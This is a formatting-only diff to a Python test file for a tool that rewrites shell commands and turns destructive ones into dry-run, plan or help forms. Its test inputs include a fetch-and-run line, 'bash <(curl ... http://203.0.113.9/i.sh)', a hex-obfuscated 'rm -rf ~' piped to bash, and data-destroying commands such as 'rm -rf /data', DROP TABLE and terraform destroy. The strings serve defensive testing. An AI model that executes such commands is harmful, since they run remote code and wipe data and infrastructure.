@@ -130,7 +130,7 @@ def test_split_words_refuses_lines_that_are_not_one_simple_command(command):
 
 
 def test_split_words_marks_expansions_as_not_literal():
-    words = split_words('rm -rf ~/.cache/pip "$HOME"/x \'$literal\' *.map')
+    words = split_words("rm -rf ~/.cache/pip \"$HOME\"/x '$literal' *.map")
     assert [w.literal for w in words] == [True, True, False, False, True, False]
 
 
@@ -162,10 +162,21 @@ def test_global_options_land_right_after_the_program_name():
     variants = {v.transform: shlex.split(v.command) for v in keep_variants(kubectl)}
     assert variants["global_context_after_program"][:3] == ["kubectl", "--context", "ops-eu"]
     # trailing options stop before `--`: what follows belongs to the inner command
-    assert variants["global_request_timeout_end"][-5:] == ["--request-timeout=30s", "--", "rm", "-rf", "/data"]
+    assert variants["global_request_timeout_end"][-5:] == [
+        "--request-timeout=30s",
+        "--",
+        "rm",
+        "-rf",
+        "/data",
+    ]
     terraform = "terraform destroy -auto-approve"
     variants = {v.transform: shlex.split(v.command) for v in keep_variants(terraform)}
-    assert variants["global_chdir_after_program"] == ["terraform", "-chdir=.", "destroy", "-auto-approve"]
+    assert variants["global_chdir_after_program"] == [
+        "terraform",
+        "-chdir=.",
+        "destroy",
+        "-auto-approve",
+    ]
 
 
 def test_inserted_global_options_only_add_words():
@@ -216,7 +227,10 @@ def test_wrapped_commands_round_trip():
 
 
 def test_bash_only_syntax_is_never_wrapped_in_sh():
-    for command in ("bash <(curl -fsSL http://203.0.113.9/i.sh)", "printf '\\x72\\x6d -rf ~' | bash"):
+    for command in (
+        "bash <(curl -fsSL http://203.0.113.9/i.sh)",
+        "printf '\\x72\\x6d -rf ~' | bash",
+    ):
         transforms = {v.transform for v in keep_variants(command)}
         assert "sh_lc" not in transforms and "bash_lc" in transforms
         for v in keep_variants(command):
@@ -254,24 +268,31 @@ def test_builtins_get_no_external_wrapper():
 
 
 def test_requoting_never_quotes_an_expansion():
-    for command in ('rm -rf ~/.cache/pip', 'psql "$PROD_DATABASE_URL" -c \'DROP TABLE t\''):
+    for command in ("rm -rf ~/.cache/pip", "psql \"$PROD_DATABASE_URL\" -c 'DROP TABLE t'"):
         for v in keep_variants(command):
             if v.transform.startswith("quote_args"):
                 assert "~/.cache/pip" in v.command.split() or "$PROD_DATABASE_URL" in v.command
-                assert "'~" not in v.command and "\"~" not in v.command
+                assert "'~" not in v.command and '"~' not in v.command
                 assert shlex.split(v.command) == shlex.split(command)
 
 
 def test_opt_value_forms_only_for_options_that_take_a_value():
-    variants = {v.transform: v.command for v in keep_variants("aws --profile prod s3 ls --region=eu-west-1")}
+    variants = {
+        v.transform: v.command for v in keep_variants("aws --profile prod s3 ls --region=eu-west-1")
+    }
     assert variants["opt_space_to_equals"] == "aws --profile=prod s3 ls --region=eu-west-1"
     assert variants["opt_equals_to_space"] == "aws --profile prod s3 ls --region eu-west-1"
     for v in keep_variants("kubectl delete ns x --dry-run=server --cascade=foreground"):
         assert "--dry-run server" not in v.command and "--cascade foreground" not in v.command
     for v in keep_variants("git push --force origin main"):
         assert "--force=origin" not in v.command
-    split = {v.transform: v.command for v in keep_variants('wrangler d1 execute db --remote --command="DROP TABLE t"')}
-    assert split["opt_equals_to_space"] == 'wrangler d1 execute db --remote --command "DROP TABLE t"'
+    split = {
+        v.transform: v.command
+        for v in keep_variants('wrangler d1 execute db --remote --command="DROP TABLE t"')
+    }
+    assert (
+        split["opt_equals_to_space"] == 'wrangler d1 execute db --remote --command "DROP TABLE t"'
+    )
 
 
 # --- flip variants ------------------------------------------------------------------------------------
@@ -285,32 +306,63 @@ def test_flip_variants_use_each_programs_documented_form():
     assert _flips("terraform -chdir=envs/prod destroy -auto-approve")["terraform_plan_destroy"] == (
         "terraform -chdir=envs/prod plan -destroy"
     )
-    assert _flips("terraform apply -destroy -auto-approve -var-file=prod.tfvars")["terraform_plan_destroy"] == (
-        "terraform plan -destroy -var-file=prod.tfvars"
-    )
+    assert _flips("terraform apply -destroy -auto-approve -var-file=prod.tfvars")[
+        "terraform_plan_destroy"
+    ] == ("terraform plan -destroy -var-file=prod.tfvars")
     assert "terraform_plan_destroy" not in _flips("terraform apply destroy.tfplan")
     assert _flips("kubectl --context prod -n p delete deployment api")["kubectl_dry_run"] == (
         "kubectl --context prod -n p delete deployment api --dry-run=server"
     )
-    assert _flips("kubectl delete ns x --dry-run=none")["kubectl_dry_run"] == "kubectl delete ns x --dry-run=server"
+    assert (
+        _flips("kubectl delete ns x --dry-run=none")["kubectl_dry_run"]
+        == "kubectl delete ns x --dry-run=server"
+    )
     assert "kubectl_dry_run" not in _flips("kubectl exec pod -- rm -rf /data")
-    assert _flips("kubectl exec pod -- rm -rf /data")["cobra_help"] == "kubectl exec --help pod -- rm -rf /data"
-    assert _flips("helm uninstall payments -n payments")["helm_dry_run"] == "helm uninstall payments -n payments --dry-run"
-    assert _flips("aws --profile prod s3 rb s3://b --force")["aws_help"] == "aws --profile prod s3 rb help"
-    assert _flips("aws s3 rm s3://b/ --recursive")["aws_s3_dryrun"] == "aws s3 rm s3://b/ --recursive --dryrun"
+    assert (
+        _flips("kubectl exec pod -- rm -rf /data")["cobra_help"]
+        == "kubectl exec --help pod -- rm -rf /data"
+    )
+    assert (
+        _flips("helm uninstall payments -n payments")["helm_dry_run"]
+        == "helm uninstall payments -n payments --dry-run"
+    )
+    assert (
+        _flips("aws --profile prod s3 rb s3://b --force")["aws_help"]
+        == "aws --profile prod s3 rb help"
+    )
+    assert (
+        _flips("aws s3 rm s3://b/ --recursive")["aws_s3_dryrun"]
+        == "aws s3 rm s3://b/ --recursive --dryrun"
+    )
     assert "aws_s3_dryrun" not in _flips("aws s3 rb s3://b --force")
-    assert _flips("aws ec2 terminate-instances --instance-ids i-1")["aws_ec2_dry_run"].endswith("--dry-run")
-    assert _flips("git push --force origin main")["git_dry_run"] == "git push --dry-run --force origin main"
+    assert _flips("aws ec2 terminate-instances --instance-ids i-1")["aws_ec2_dry_run"].endswith(
+        "--dry-run"
+    )
+    assert (
+        _flips("git push --force origin main")["git_dry_run"]
+        == "git push --dry-run --force origin main"
+    )
     assert "git_dry_run" not in _flips("git reset --hard HEAD~5")
     assert _flips("git reset --hard HEAD~5")["git_help"] == "git help reset"
-    assert _flips("rsync -a --delete src/ host:/dst/")["rsync_dry_run"] == "rsync --dry-run -a --delete src/ host:/dst/"
-    assert _flips("pulumi destroy --stack prod --yes")["pulumi_preview_only"] == "pulumi destroy --stack prod --preview-only"
-    assert _flips("alembic -c prod.ini downgrade base")["alembic_sql"] == "alembic -c prod.ini downgrade base --sql"
-    assert _flips("php bin/console doctrine:schema:drop --force --full-database")["doctrine_dump_sql"] == (
-        "php bin/console doctrine:schema:drop --dump-sql --full-database"
+    assert (
+        _flips("rsync -a --delete src/ host:/dst/")["rsync_dry_run"]
+        == "rsync --dry-run -a --delete src/ host:/dst/"
     )
+    assert (
+        _flips("pulumi destroy --stack prod --yes")["pulumi_preview_only"]
+        == "pulumi destroy --stack prod --preview-only"
+    )
+    assert (
+        _flips("alembic -c prod.ini downgrade base")["alembic_sql"]
+        == "alembic -c prod.ini downgrade base --sql"
+    )
+    assert _flips("php bin/console doctrine:schema:drop --force --full-database")[
+        "doctrine_dump_sql"
+    ] == ("php bin/console doctrine:schema:drop --dump-sql --full-database")
     assert _flips("docker compose down -v")["compose_dry_run"] == "docker compose --dry-run down -v"
-    assert "compose_dry_run" not in _flips("docker compose exec db psql -c 'DROP SCHEMA public CASCADE'")
+    assert "compose_dry_run" not in _flips(
+        "docker compose exec db psql -c 'DROP SCHEMA public CASCADE'"
+    )
     assert _flips("sudo systemctl stop sshd")["systemctl_help"] == "sudo systemctl --help stop sshd"
 
 
